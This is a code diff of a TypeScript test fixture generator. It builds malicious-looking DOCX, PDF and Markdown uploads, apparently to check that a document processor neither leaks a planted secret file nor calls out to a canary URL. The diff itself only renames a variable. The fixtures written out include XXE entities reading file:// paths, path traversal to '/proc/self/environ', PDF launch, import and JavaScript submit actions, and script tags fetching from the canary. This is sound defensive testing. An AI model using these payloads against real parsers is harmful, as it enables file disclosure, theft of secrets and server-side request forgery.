@@ -57,15 +57,15 @@ const STYLES = (id: string): Parts => ({
   "word/numbering.xml": `<w:numbering ${W}><w:abstractNum w:abstractNumId="${id}"><w:lvl w:ilvl="${id}"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum><w:num w:numId="${id}"><w:abstractNumId w:val="${id}"/></w:num></w:numbering>`,
 });
 
-type Places = { planted: string; canary: string };
+type Places = { secretFile: string; canary: string };
 
 /** Sixty files. Their own text is only a hello. */
-export function pointingFiles({ planted, canary }: Places): Upload[] {
+export function pointingFiles({ secretFile, canary }: Places): Upload[] {
   const targets = [
-    planted,
-    `file://${planted}`,
-    `file://localhost${planted}`,
-    `../../../../../../../..${planted}`,
+    secretFile,
+    `file://${secretFile}`,
+    `file://localhost${secretFile}`,
+    `../../../../../../../..${secretFile}`,
     "/proc/self/environ",
     "/dev/zero",
     `${canary}/linked`,
@@ -73,7 +73,7 @@ export function pointingFiles({ planted, canary }: Places): Upload[] {
   ];
   const words = Object.values(CARRIERS).flatMap((carrier) => targets.map((target) => carrier(target)));
   const ids = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__"];
-  const entity = `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${planted}"><!ENTITY c SYSTEM "${canary}/entity">]>`;
+  const entity = `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${secretFile}"><!ENTITY c SYSTEM "${canary}/entity">]>`;
   const documents = [
     ...words,
     ...ids.map(STYLES),
@@ -86,23 +86,23 @@ export function pointingFiles({ planted, canary }: Places): Upload[] {
       bytes: zip(parts),
     }),
   );
-  return [...documents, ...pdfs({ planted, canary }), ...texts({ planted, canary })];
+  return [...documents, ...pdfs({ secretFile, canary }), ...texts({ secretFile, canary })];
 }
 
-function pdfs({ planted, canary }: Places): Upload[] {
+function pdfs({ secretFile, canary }: Places): Upload[] {
   const uri = `${canary}/opened`;
   const actions = [
-    `<< /S /Launch /F (${planted}) >>`,
+    `<< /S /Launch /F (${secretFile}) >>`,
     `<< /S /URI /URI (${uri}) >>`,
-    `<< /S /GoToR /F (${planted}) /D [0 /Fit] >>`,
+    `<< /S /GoToR /F (${secretFile}) /D [0 /Fit] >>`,
     `<< /S /SubmitForm /F << /FS /URL /F (${uri}) >> >>`,
-    `<< /S /ImportData /F (${planted}) >>`,
+    `<< /S /ImportData /F (${secretFile}) >>`,
     `<< /S /JavaScript /JS (this.submitForm("${uri}"); app.launchURL("${uri}");) >>`,
   ].map((action) => onePage({ root: `/OpenAction ${action} `, page: `/AA << /O ${action} >> ` }));
-  const xfa = `<template><subform><field><ui><image href="${uri}"/></ui><value><image href="file://${planted}"/></value></field></subform></template>`;
+  const xfa = `<template><subform><field><ui><image href="${uri}"/></ui><value><image href="file://${secretFile}"/></value></field></subform></template>`;
   return [
     ...actions,
-    onePage({ contentEntries: `/F (${planted}) /FFilter /ASCIIHexDecode ` }),
+    onePage({ contentEntries: `/F (${secretFile}) /FFilter /ASCIIHexDecode ` }),
     onePage({ contentEntries: `/F << /FS /URL /F (${uri}) >> ` }),
     onePage({ root: "/AcroForm << /XFA 6 0 R /Fields [] >> ", more: [stream(xfa)] }),
     onePage({
@@ -113,9 +113,9 @@ function pdfs({ planted, canary }: Places): Upload[] {
   ].map((bytes, index) => ({ filename: `points-${index}.pdf`, type: UPLOAD_TYPES.pdf, bytes }));
 }
 
-function texts({ planted, canary }: Places): Upload[] {
+function texts({ secretFile, canary }: Places): Upload[] {
   const lines = [
-    `![a](file://${planted})`,
+    `![a](file://${secretFile})`,
     `<img src="${canary}/picture"><script src="${canary}/script"></script>`,
   ];
   return lines.map((line, index) => ({
